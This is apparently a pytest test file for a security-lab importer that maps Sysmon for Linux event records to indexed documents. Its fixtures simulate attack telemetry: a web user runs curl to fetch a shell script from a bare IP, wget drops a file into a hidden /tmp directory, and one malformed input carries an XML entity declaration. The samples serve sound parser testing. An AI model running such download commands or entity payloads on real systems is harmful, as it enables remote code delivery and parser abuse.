"""Sysmon for Linux: its syslog XML records -> logs-sysmon_linux.log-default with the Sysmon mapping."""

from __future__ import annotations

from pathlib import Path

from importers_testlib import docs, jl, run

from pytest_soclab.importers import streams

XML = (
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>{eid}</EventID>'
    "<Version>5</Version><Level>4</Level><Task>{eid}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
    '<TimeCreated SystemTime="2024-03-01T10:00:00.123456789Z"/><EventRecordID>42</EventRecordID><Correlation/>'
    '<Execution ProcessID="900" ThreadID="900"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer>'
    '<Security UserId="0"/></System><EventData>{data}</EventData></Event>'
)


def _data(**fields: str) -> str:
    return "".join(f'<Data Name="{k}">{v}</Data>' for k, v in fields.items())


def test_process_create_and_network(tmp_path: Path) -> None:
    proc = XML.replace("{eid}", "1").replace("{data}", _data(
        RuleName="-", UtcTime="2024-03-01 10:00:00.100", ProcessGuid="{aa-1}", ProcessId="3131",
        Image="/usr/bin/curl", CommandLine="curl -s http://203.0.113.5/x.sh", CurrentDirectory="/tmp", User="www-data",
        ParentProcessGuid="{aa-0}", ParentProcessId="3000", ParentImage="/bin/bash", ParentCommandLine="bash"))  # fmt: skip
    net = XML.replace("{eid}", "3").replace("{data}", _data(
        Image="/usr/bin/curl", ProcessId="3131", Protocol="tcp", Initiated="true", SourceIp="10.0.0.7", SourcePort="40000",
        DestinationIp="203.0.113.5", DestinationPort="80"))  # fmt: skip
    summary = run(tmp_path, "sysmon-linux", "syslog", f"Mar  1 10:00:00 web01 sysmon: {proc}\n{net}\n")
    assert summary.malformed == []
    p, n = docs(summary, streams.SYSMON_LINUX)
    assert p["event"]["module"] == "sysmon_linux" and p["event"]["dataset"] == "sysmon_linux.log"
    assert p["@timestamp"] == "2024-03-01T10:00:00.100Z" and p["event"]["created"] == "2024-03-01T10:00:00.123Z"
    assert p["process"]["name"] == "curl" and p["process"]["args"] == ["curl", "-s", "http://203.0.113.5/x.sh"]
    assert p["process"]["parent"]["name"] == "bash" and p["user"] == {"name": "www-data", "id": "0"}
    assert p["host"]["name"] == "web01" and p["winlog"]["record_id"] == "42"
    assert p["winlog"]["channel"] == "Linux-Sysmon/Operational" and p["winlog"]["provider_name"] == "Linux-Sysmon"
    assert n["destination"] == {"ip": "203.0.113.5", "port": 80} and n["network"]["direction"] == "egress"


def test_json_form_and_bad_xml(tmp_path: Path) -> None:
    rec = {"Channel": "Linux-Sysmon/Operational", "EventID": 11, "Hostname": "web01", "@timestamp": "2024-03-01T10:00:00.000Z",
           "TargetFilename": "/tmp/.x/payload", "Image": "/usr/bin/wget"}  # fmt: skip
    bad = '<Event><System><EventID>x</EventID></System></Event>'
    entity = '<Event><!DOCTYPE e [<!ENTITY a "b">]><System><EventID>1</EventID></System></Event>'
    summary = run(tmp_path, "sysmon-linux", "mixed.log", jl([rec, bad, entity, "<Event><System>"]))
    (f,) = docs(summary, streams.SYSMON_LINUX)
    assert f["file"] == {"path": "/tmp/.x/payload", "name": "payload", "directory": "/tmp/.x"}
    assert [(m.line, m.reason.split(":")[0]) for m in summary.malformed] == [
        (2, "no numeric System/EventID"),
        (3, "XML declarations are not accepted in an event record"),
        (4, "no <Event>...</Event> element"),
    ]
